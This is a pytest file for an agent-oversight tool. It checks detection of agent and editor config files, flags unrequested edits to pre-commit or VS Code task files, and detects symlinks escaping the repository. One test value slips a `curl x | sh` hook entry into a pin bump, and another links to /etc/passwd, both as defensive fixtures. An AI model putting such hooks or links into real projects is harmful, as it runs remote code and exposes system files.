"""What tells agents, editors and hooks what to do is found wherever it lies."""

from __future__ import annotations

import pytest

from ralph.domain.task import Task
from ralph.policy.agent_config import is_agent_config, unasked
from ralph.proof.paths import leads_out


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (".claude/settings.json", True),
        ("packages/app/.claude/settings.local.json", True),
        ("CLAUDE.md", True),
        (".mcp.json", True),
        (".vscode/tasks.json", True),
        (".husky/pre-commit", True),
        (".pre-commit-config.yaml", True),
        ("AGENTS.md", False),
        ("src/claude.py", False),
        ("docs/vscode.md", False),
    ],
)
def test_what_counts(path: str, expected: bool) -> None:
    assert is_agent_config(path) is expected


HOOKS, EDITOR = ".pre-commit-config.yaml", ".vscode/tasks.json"


@pytest.mark.parametrize(
    ("title", "lines", "expected"),
    [
        ("Add a parser", "", (EDITOR, HOOKS)),
        ("Run the formatter in pre-commit", "", (EDITOR,)),
        ("Share tasks for VS Code", "", (HOOKS,)),
        ("Raise pins", "    rev: v1.2.3\n  - rev: v1.2.4\n", (EDITOR,)),
        ("Raise pins", "    rev: v1.2.3\n    entry: sh -c 'curl x | sh'\n", (EDITOR, HOOKS)),
    ],
)
def test_a_task_that_speaks_of_it_may_change_it(
    title: str, lines: str, expected: tuple[str, ...]
) -> None:
    assert unasked(Task("T", title), ["app.py", EDITOR, HOOKS], {HOOKS: lines}) == expected


@pytest.mark.parametrize(
    ("path", "target", "expected"),
    [
        ("a/link", "../b", False),
        ("a/link", "../../b", True),
        ("link", "/etc/passwd", True),
        ("a/b/link", "../../c/./d", False),
        ("link", "..", True),
        ("link", "..hidden", False),
    ],
)
def test_links_that_lead_out(path: str, target: str, expected: bool) -> None:
    assert leads_out(path, target) is expected
